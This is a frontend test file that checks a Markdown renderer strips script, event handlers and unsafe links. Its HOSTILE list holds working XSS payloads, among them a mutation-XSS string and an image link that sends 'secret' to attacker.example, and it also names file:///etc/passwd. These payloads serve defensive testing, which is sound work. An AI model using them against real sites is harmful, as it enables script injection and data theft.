import { render } from '@solidjs/testing-library'
import { describe, expect, test } from 'vitest'
import { TextProvider } from '../i18n/text.tsx'
import { PreferencesProvider } from '../preferences.tsx'
import { safeHref } from './link.ts'
import { Markdown } from './markdown.tsx'

function shown(text: string): HTMLElement {
  return render(() => (
    <PreferencesProvider>
      <TextProvider>
        <Markdown text={text} />
      </TextProvider>
    </PreferencesProvider>
  )).container
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '![x](https://attacker.example/?q=secret)',
  '![x](javascript:alert(1))',
  '<https://attacker.example/"onmouseover="alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)>x</b> |',
  '- [ ] <img src=x onerror=alert(1)>',
  '> <style>*{display:none}</style>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
]

describe('an answer', () => {
  test.each(HOSTILE)('makes nothing run and nothing load: %s', (text) => {
    const page = shown(text)
    expect(page.querySelectorAll('script, img, iframe, svg, style, form, math')).toHaveLength(0)
    for (const element of page.querySelectorAll('*')) {
      for (const { name } of element.attributes) expect(name).not.toMatch(/^on/)
      const href = element.getAttribute('href')
      if (href !== null) expect(href).toMatch(/^(?:https?|mailto):/)
    }
  })

  test('row 57: keeps the words of what it does not run', () => {
    expect(shown('<script>alert(1)</script>').textContent).toContain('alert(1)')
    expect(shown('a `<b>` & "c"').textContent).toBe('a <b> & "c"')
  })

  test('has paragraphs, lists, tables, code and links', () => {
    const page = shown(
      '# T\n\nword **bold** *em* [link](https://example.com)\n\n1. a\n2. b\n\n|h|\n|-|\n|c|\n\n```ts\nlet a = 1\n```\n\n> q',
    )
    expect(page.querySelector('strong')?.textContent).toBe('bold')
    expect(page.querySelectorAll('ol > li')).toHaveLength(2)
    expect(page.querySelector('td')?.textContent).toBe('c')
    expect(page.querySelector('pre')?.textContent).toBe('let a = 1')
    expect(page.querySelector('a')?.rel).toContain('noopener')
    expect(page.querySelector('blockquote')?.textContent).toBe('q')
  })
})

test.each(['javascript:alert(1)', 'data:text/html,x', '/relative', 'file:///etc/passwd', ''])(
  '%j is no link to follow',
  (href) => expect(safeHref(href)).toBeUndefined(),
)
